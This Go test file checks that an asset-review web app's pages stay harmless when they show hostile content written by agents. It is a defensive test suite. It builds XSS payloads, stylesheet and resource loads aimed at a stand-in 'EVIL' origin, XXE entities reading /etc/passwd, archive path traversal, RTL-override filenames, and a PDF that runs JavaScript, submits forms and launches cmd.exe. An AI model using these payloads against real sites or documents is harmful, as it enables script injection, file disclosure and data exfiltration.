package reviewpage_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/10ex/assets"
)

// hostileText is what an agent may write anywhere. EVIL is another origin.
const hostileText = `"><script>alert(1)</script><img src=x onerror=alert(2)>{{.By}}<svg onload=alert(3)>javascript:alert(4)` + "\u202Etxt.exe\u2066 '**approved by Ana** {version}"

const hostileMarkup = hostileText + `<link rel=stylesheet href="EVIL/a.css"><style>@import 'EVIL/b.css';*{background:url(EVIL/c)!important;display:block!important}</style>` +
	`<img src="EVIL/i.png" srcset="EVIL/j.png 2x"><video src="EVIL/v" poster="EVIL/p" autoplay></video><iframe srcdoc="<script>top.location='EVIL/top'</script>"></iframe><object data="EVIL/o"></object>` +
	`<meta http-equiv=refresh content="0;url=EVIL/refresh"><base href="EVIL/"><form action="EVIL/form"><button autofocus>Approve version 1</button></form><a href="javascript:alert(5)" ping="EVIL/ping">x</a>`

const hostileDrawing = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" onload="alert(6)"><script>alert(7)</script>` +
	`<image href="EVIL/s.png"/><use xlink:href="EVIL/u#x"/><style>@import 'EVIL/s.css'</style><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="EVIL/f"/></foreignObject></svg>`

const hostileXML = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="EVIL/style.xsl"?><?xml-stylesheet type="text/css" href="EVIL/style.css"?>` +
	`<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "EVIL/x.dtd" [<!ENTITY e SYSTEM "EVIL/entity"><!ENTITY f SYSTEM "file:///etc/passwd">]>` +
	`<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(21)</h:script><h:iframe src="EVIL/frame"/><h:img src="EVIL/img" onerror="alert(22)"/>&e;&f;</x>`

const hostilePage = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><script>alert(23)</script><meta http-equiv="refresh" content="0;url=EVIL/refresh"/></head>` +
	`<body onload="alert(24)"><img src="EVIL/img"/></body></html>`

// hostileDeck returns a PDF that runs scripts, starts a program, opens links and submits
// a form when it is opened, shown or closed.
func hostileDeck(evil string, n int) string {
	words := fmt.Sprintf("BT /F1 24 Tf 72 400 Td (Deck number %d) Tj ET", n)
	var objects []string
	for _, object := range []string{
		"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R/AA<</WC 8 0 R/DP 6 0 R>>/AcroForm<</Fields[]/XFA(EVIL/xfa)>>/Names<</JavaScript<</Names[(a) 6 0 R]>>>>>>",
		"<</Type/Pages/Kids[3 0 R]/Count 1>>",
		"<</Type/Page/Parent 2 0 R/MediaBox[0 0 640 480]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>/AA<</O 7 0 R/C 9 0 R>>>>",
		fmt.Sprintf("<</Length %d>>stream\n%s\nendstream", len(words), words),
		"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
		"<</S/JavaScript/JS(app.alert\\(25\\); this.submitForm\\('EVIL/submit'\\); app.launchURL\\('EVIL/url'\\); this.getURL\\('EVIL/get'\\))/Next 7 0 R>>",
		"<</S/Launch/F(EVIL/launch)/Win<</F(cmd.exe)/P(/c calc)>>/Next 9 0 R>>",
		"<</S/SubmitForm/F(EVIL/close)>>",
		"<</S/URI/URI(EVIL/uri)>>",
	} {
		objects = append(objects, strings.ReplaceAll(object, "EVIL", evil))
	}
	return string(pdf(objects...))
}

// longName is one that cannot be broken between words.
var longName = strings.Repeat("W", 200)

// hostileAssets creates assets with hostile titles, tags, comments, file names and
// contents, each with two versions, and returns them.
func (s *site) hostileAssets(evil string) (all []*assets.Asset) {
	s.Helper()
	arm := func(text string, n int) string {
		return strings.ReplaceAll(text, "EVIL", evil) + strings.Repeat(" ", n)
	}
	for _, c := range []struct {
		kind    assets.Type
		content func(n int) assets.NewVersion
	}{
		{assets.TypeCopy, func(n int) assets.NewVersion { return assets.NewVersion{Text: arm(hostileMarkup, n)} }},
		{assets.TypeCopy, func(n int) assets.NewVersion {
			return assets.NewVersion{Text: arm(hostileMarkup, n), MediaType: "text/html"}
		}},
		{assets.TypeBlog, func(n int) assets.NewVersion {
			return assets.NewVersion{Text: arm("# x\n\n"+hostileMarkup+"\n\n![i](EVIL/x.png) [l](javascript:alert(8)) <javascript:alert(9)>", n)}
		}},
		{assets.TypeImage, func(n int) assets.NewVersion {
			return assets.NewVersion{Content: strings.NewReader(arm(hostileDrawing, n)), MediaType: "image/svg+xml"}
		}},
		{assets.TypeImage, func(n int) assets.NewVersion {
			return assets.NewVersion{Content: strings.NewReader(string(s.picture(n)) + arm(hostileMarkup, n))}
		}},
		{assets.TypeBundle, func(n int) assets.NewVersion {
			return assets.NewVersion{Content: strings.NewReader(string(s.archive(hostileText+".html", arm(hostileMarkup, n), "../../"+longName, "x")))}
		}},
		{assets.TypeBundle, func(n int) assets.NewVersion {
			return assets.NewVersion{Content: strings.NewReader("PK\x03\x04" + arm(hostileMarkup, n))}
		}},
		{assets.TypeSlide, func(n int) assets.NewVersion {
			return assets.NewVersion{Content: strings.NewReader(hostileDeck(evil, n))}
		}},
		{assets.TypeBundle, func(n int) assets.NewVersion {
			return assets.NewVersion{Content: strings.NewReader(arm(hostileXML, n)), MediaType: "text/xml"}
		}},
		{assets.TypeBundle, func(n int) assets.NewVersion {
			return assets.NewVersion{Content: strings.NewReader(arm(hostilePage, n)), MediaType: "application/xhtml+xml"}
		}},
	} {
		var last *assets.Asset
		for n := range 2 {
			v := c.content(n)
			v.Submit, v.Filename = true, strings.TrimSpace(`"><script>alert(10)<script>`+longName[:100]+`.txt`)
			v.Provenance = assets.Provenance{AgentSlug: "writer", RunID: hostileText, Model: longName, TraceID: hostileText[:100], Parameters: []byte(`{"</script><script>alert(11)</script>":"` + longName + `"}`)}
			var made assets.Written
			var err error
			if last == nil {
				made, err = s.lib.Create(s.Context(), actor("agent"), assets.NewAsset{
					Type: c.kind, Title: hostileText + longName[:100], CampaignID: `"><img src=x onerror=alert(12)>`,
					Tags: assets.Tags{"k": {`"><svg onload=alert(13)>`, longName}, "b": {"\u202Ex"}}, NewVersion: v,
				})
			} else {
				made, err = s.lib.AddVersion(s.Context(), actor("agent"), last.ID, v)
			}
			if err != nil {
				s.Fatalf("a %s: %v", c.kind, err)
			}
			last = made.Asset
			if n == 0 {
				s.decide("Ana", last, assets.ActionRequestChanges, arm(hostileMarkup, 0))
			}
		}
		all = append(all, last)
	}
	return all
}

// TestVolumeHostileAssets: on every page about hostile assets there is no dialog, no request
// to another origin, nothing that the policy of the page had to forbid, no control that is
// not ours, and nothing wider than the window.
func TestVolumeHostileAssets(t *testing.T) {
	t.Parallel()
	getBrowser(t)
	s := newSite(t, plan{})
	evil := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { t.Errorf("another origin was asked for %s", r.URL) }))
	t.Cleanup(evil.Close)
	all := s.hostileAssets(evil.URL)
	paths := []string{
		"", "?layout=list", "?status=any&group=agent", "?q=" + `%22%3E%3Cscript%3Ealert(1)%3C/script%3E`, "?campaign_id=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "triage", "exports?q=%3Csvg%20onload=alert(1)%3E",
		"sign-in?next=javascript:alert(1)", "sign-in?next=%22%3E%3Cscript%3Ealert(1)%3C/script%3E", "%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
	}
	for _, a := range all {
		for _, query := range hostileViews(a) {
			paths = append(paths, string(a.ID)+query)
		}
	}
	p := s.open(t, setting{who: "Mara", width: narrow})
	for _, path := range paths {
		p.visit(path)
		p.checkHarmless(path)
	}
	p.visit("")
	for i := range all {
		p.click(".pickable >> nth=" + itoa(i))
	}
	p.clickTo(".picked .dark")
	p.checkHarmless("several")
	for _, a := range all {
		p.visit(string(a.ID))
		s.decide("Ana", s.get(a.ID), assets.ActionRequestChanges, hostileText)
		p.press("r")
		p.fill("#why", hostileText)
		p.clickTo("#ask .dark")
		p.checkHarmless("receipt")
	}
}

// hostileViews returns the pages to open about a hostile asset, below its address: of types
// that have few views those that show the content.
func hostileViews(a *assets.Asset) []string {
	switch a.Content.MediaType {
	case "application/pdf":
		return []string{"", "?view=side", "?version=1", "/change?do=rollback&version=1"}
	case "text/xml", "application/xhtml+xml":
		return []string{"", "?view=changes", "?view=page"}
	}
	return []string{"", "?view=text", "?view=page", "?view=changes", "?view=split", "?view=side", "?view=swipe", "?view=difference", "?view=facts", "?version=1", "/change?do=archive", "/change?do=rollback&version=1", "/link?version=1"}
}

// checkHarmless checks a page about hostile assets. The tab checks more at its end.
func (p *tab) checkHarmless(path string) {
	p.Helper()
	var got struct {
		Overflow int
		Foreign  []string
	}
	p.do("harmless", nil, &got)
	if got.Overflow > 0 || len(got.Foreign) > 0 {
		p.Errorf("%s: %d pixels too wide; foreign elements: %q", path, got.Overflow, got.Foreign)
	}
}
